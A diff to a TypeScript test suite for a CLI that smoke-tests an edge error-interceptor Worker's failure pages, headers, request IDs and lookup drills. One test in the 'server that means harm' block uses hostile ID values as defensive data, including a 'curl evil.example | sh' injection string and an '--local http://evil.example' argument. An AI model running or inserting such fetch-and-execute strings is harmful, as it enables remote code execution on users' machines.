@@ -24,10 +24,11 @@ import { startWranglerDev } from './wrangler-dev.ts';
 const UUID = '[\\da-f]{8}-[\\da-f]{4}-7[\\da-f]{3}-[89ab][\\da-f]{3}-[\\da-f]{12}';
 /** Who else is asked for, as the checks of the answers' status name them. */
 const CLIENTS = ['JSON client:', 'Text client:', 'Markdown client:', 'htmx:'];
+const PAGE_ID = '01a22cc3-2edf-7487-a127-a01b47583ebb';
 /** An answer of the Worker's, as far as the first look goes. */
 const PAGE =
   'HTTP/1.1 500 x\r\nProxy-Status: edge-error-interceptor; received-status=503\r\n' +
-  'X-Request-Id: 01KAS0Z5G1J8T0N6QH3V9W2XYB\r\nConnection: close\r\n\r\n';
+  `X-Request-Id: ${PAGE_ID}\r\nConnection: close\r\n\r\n`;
 
 let origin: Origin;
 let worker: RunningWorker;
@@ -73,8 +74,7 @@ describe('a site that behaves', () => {
   ✓ GET 200 text/html; charset=utf-8: the site's own answer
 
 All as promised (1 check).
-This does not show that the Worker is there: give --failing URL, one that the origin fails on,
-or --drill.
+This does not show that the Worker is there: give --failing URL, one that the origin fails on, or --drill.
 `,
     );
     expect(stderr).toBe('');
@@ -97,7 +97,7 @@ or --drill.
     expect(stdout).toContain(`${worker.url}/status/503\n  ✓ GET 500\n`);
     for (const seen of [
       'Content-Type: text/html; charset=utf-8',
-      'the page shows the same ID',
+      'the body has the ID of the header',
       'Content-Language: en',
       'Cache-Control: no-store',
       "Content-Security-Policy: default-src 'none'; ",
@@ -105,17 +105,13 @@ or --drill.
       'Referrer-Policy: no-referrer',
       'X-Robots-Tag: noindex',
       'Cross-Origin-Embedder-Policy: require-corp',
-      'Vary: Accept, Accept-Language, Content-Type, HX-Boosted, HX-History-Restore-Request, HX-Request, Sec-Fetch-Dest, Sec-Fetch-Mode, X-Inertia, X-Livewire, X-Requested-With, X-Up-Version\n',
+      'Vary: Accept, Accept-Language, Content-Type, HX-Boosted, ',
       'Proxy-Status: edge-error-interceptor; received-status=503',
-      'JSON client: 500',
-      'Content-Type: application/json; charset=utf-8',
-      'the body has title, detail, message, error, retryable and timestamp, and no type',
-      'Text client: 500 text/plain; charset=utf-8, which shows the ID of its header',
-      'Markdown client: 500 text/markdown; charset=utf-8, which shows the ID of its header',
-      'htmx: 500 text/html; charset=utf-8, which shows the ID of its header',
-      'HEAD 500',
-      'HEAD has the headers of GET',
-      'HEAD has no body',
+      'JSON client: 500 application/json; charset=utf-8, as promised',
+      'Text client: 500 text/plain; charset=utf-8, as promised',
+      'Markdown client: 500 text/markdown; charset=utf-8, as promised',
+      'htmx: 500 text/html; charset=utf-8, as promised',
+      'HEAD 500 text/html; charset=utf-8, as promised',
     ]) {
       expect(stdout).toContain(`  ✓ ${seen}`);
     }
@@ -160,7 +156,7 @@ or --drill.
 describe('an origin that answers HEAD in another way', () => {
   it.each([
     [405, 'HEAD 405: the origin fails on GET only'],
-    [501, 'HEAD has the headers of GET'],
+    [501, 'HEAD 500 text/html; charset=utf-8, as promised'],
   ])('as %i: passes', async (status, expected) => {
     const getOnly = await startAnswering((head) =>
       head.startsWith('HEAD')
@@ -180,7 +176,7 @@ describe('an origin that answers HEAD in another way', () => {
     expect(stdout).toMatch(
       /no answer: .*\n *→ npx edge-error-interceptor lookup|→ npx edge-error-interceptor lookup.*\n.*no answer: /,
     );
-    expect(stdout).toMatch(/ of 23 checks failed\./);
+    expect(stdout).toMatch(/ of \d+ checks failed\./);
   });
 });
 
@@ -202,13 +198,11 @@ describe('a Worker that runs otherwise than was said', () => {
   it('that takes the IDs of clients passes where that was said', async () => {
     const uuid = '817fc0df-0000-4000-8000-0000000000';
     let asked = 0;
-    const { host } = await startAnswering(() =>
-      PAGE.replace('01KAS0Z5G1J8T0N6QH3V9W2XYB', `${uuid}${10 + asked++}`),
-    );
+    const { host } = await startAnswering(() => PAGE.replace(PAGE_ID, `${uuid}${10 + asked++}`));
     expect((await smokeFailing(`http://${host}/`)).stdout).toContain('expected a UUIDv7');
     const { stdout } = await smokeFailing(`http://${host}/`, '--trust-request-id', 'true');
     expect(stdout).toContain(`✓ X-Request-Id: ${uuid}`);
-    expect(stdout).toContain('✓ its ID is a request ID, and another one');
+    expect(stdout).not.toContain('✗ JSON client: X-Request-Id');
   });
 });
 
@@ -259,7 +253,7 @@ describe('a site that does not', () => {
     expect(failures(stdout)).toEqual([
       'Content-Type is "text/plain", expected text/html; charset=utf-8',
       'X-Request-Id is "abc\\u009b31m", expected a UUIDv7',
-      'the page does not show the ID of the header',
+      'the body should have the ID of the header: "{\\"request_id\\":\\"other\\"}"',
       'Content-Language is missing, expected a language',
       'Cache-Control is "public", expected no-store',
       expect.stringMatching(/^Content-Security-Policy is .*'unsafe-inline'", expected default-src 'none'/),
@@ -268,14 +262,17 @@ describe('a site that does not', () => {
       'X-Robots-Tag is missing, expected noindex',
       'Cross-Origin-Embedder-Policy is missing, expected require-corp',
       expect.stringMatching(/^Vary is missing, expected Accept, .*, X-Up-Version$/),
-      'Content-Type is "text/plain", expected application/json',
-      'the body has not the request_id and status of the headers: {"request_id":"other"}',
-      'the body is no problem as promised: no title, no detail, no message with the ID, no error with the ID, no retryable, no timestamp',
-      expect.stringContaining('expected a UUIDv7 of its own'),
-      'Text client: 500 text/plain, expected text/plain; charset=utf-8',
-      'Markdown client: 500 text/plain, expected text/markdown; charset=utf-8',
-      'htmx: 500 text/plain, expected text/html; charset=utf-8',
-      'HEAD has a body of 4 bytes',
+      expect.stringMatching(
+        /^JSON client: Content-Type is "text\/plain", expected application\/json; X-Request-Id is .*; the body should have request_id and status of the headers: .*; the body should have title and detail: .*; the body should have message and error with the ID: .*; the body should have retryable, true or false: .*; the body should have a timestamp: /,
+      ),
+      expect.stringMatching(
+        /^Text client: Content-Type is "text\/plain", expected text\/plain; charset=utf-8; /,
+      ),
+      expect.stringMatching(
+        /^Markdown client: Content-Type is "text\/plain", expected text\/markdown; .*; the body should have Markdown with front matter: /,
+      ),
+      expect.stringMatching(/^htmx: Content-Type is .*; the body should have a fragment with role="alert": /),
+      expect.stringMatching(/^HEAD Content-Type is .*; the body should have nothing: "body"$/),
     ]);
     expect(exitCode).toBe(1);
   });
@@ -286,7 +283,9 @@ describe('a server that means harm', () => {
     const { host } = await startEndless(method);
     const { stdout, exitCode } = await smokeFailing(`http://${host}/`);
     expect(failures(stdout).join('\n')).toMatch(
-      method === 'GET' ? /^no answer: more than 1000000 bytes came$/ : /^HEAD has a body of \d+ bytes$/m,
+      method === 'GET'
+        ? /^no answer: more than 1000000 bytes came$/
+        : /^HEAD .*the body should have nothing: "x+/m,
     );
     expect(exitCode).toBe(1);
   });
@@ -308,7 +307,7 @@ describe('a server that means harm', () => {
   it.each(["1; curl evil.example | sh'", '--local http://evil.example', '01KAS0Z5G1J8T0N6QH3V9W2XY'])(
     'and calls %j an ID has it in no line to copy',
     async (id) => {
-      const { host } = await startAnswering(() => PAGE.replace('01KAS0Z5G1J8T0N6QH3V9W2XYB', id));
+      const { host } = await startAnswering(() => PAGE.replace(PAGE_ID, id));
       const { stdout } = await smoke(`http://${host}/`, '--failing', `http://${host}/`);
       expect(stdout).toContain(`✗ X-Request-Id is ${JSON.stringify(id)}, expected a UUIDv7\n`);
       expect(stdout).not.toContain('npx edge-error-interceptor lookup');
@@ -425,10 +424,10 @@ describe('a drill', () => {
     expect(exitCode).toBe(0);
     expect(stdout).toContain(`${drilled.url}/ok (drill)\n  ✓ the Worker answers the drill\n  ✓ GET 500\n`);
     expect(stdout).toContain('✓ Proxy-Status: edge-error-interceptor\n');
-    expect(stdout).toContain('✓ JSON client: 500\n');
-    expect(stdout).toContain('✓ HEAD has no body\n');
+    expect(stdout).toContain('✓ JSON client: 500 application/json; charset=utf-8, as promised\n');
+    expect(stdout).toContain('✓ HEAD 500 text/html; charset=utf-8, as promised\n');
     expect(stdout).toContain('✓ Proxy-Status names no error in any form\n');
-    expect(stdout).toMatch(/✓ lookup finds the record of [0-9A-Z]{26}\n/);
+    expect(stdout).toMatch(/✓ lookup finds the record of [\da-f-]{36}\n/);
     expect(stdout).not.toContain(DRILL_TOKEN);
   });
 
@@ -437,7 +436,7 @@ describe('a drill', () => {
       failureRecord(String(record['request_id'])),
     );
     expect(failures(stdout)).toEqual([
-      expect.stringMatching(/^the record of [0-9A-Z]{26} is of the type 503, expected drill$/),
+      expect.stringMatching(/^the record of [\da-f-]{36} is of the type 503, expected drill$/),
     ]);
     expect(exitCode).toBe(1);
   });
@@ -449,7 +448,7 @@ describe('a drill', () => {
       CLOUDFLARE_API_TOKEN: TOKEN_WITHOUT_PERMISSION,
     });
     expect(failures(stdout)).toEqual([
-      expect.stringMatching(/^lookup does not find the record of [0-9A-Z]{26}$/),
+      expect.stringMatching(/^lookup does not find the record of [\da-f-]{36}$/),
     ]);
     expect(stderr).toContain('CLOUDFLARE_API_TOKEN is not valid, or may not read the logs');
     expect(exitCode).toBe(1);
@@ -575,7 +574,7 @@ describe('a drill', () => {
     onTestFinished(() => dev.stop());
     const { exitCode, stdout, stderr } = await drill(`${dev.url}/ok`, {}, '--local');
     expect(failures(stdout)).toEqual([]);
-    expect(stdout).toMatch(/✓ lookup finds the record of [0-9A-Z]{26}\n/);
+    expect(stdout).toMatch(/✓ lookup finds the record of [\da-f-]{36}\n/);
     expect({ exitCode, stderr }).toEqual({ exitCode: 0, stderr: '' });
   });
 });
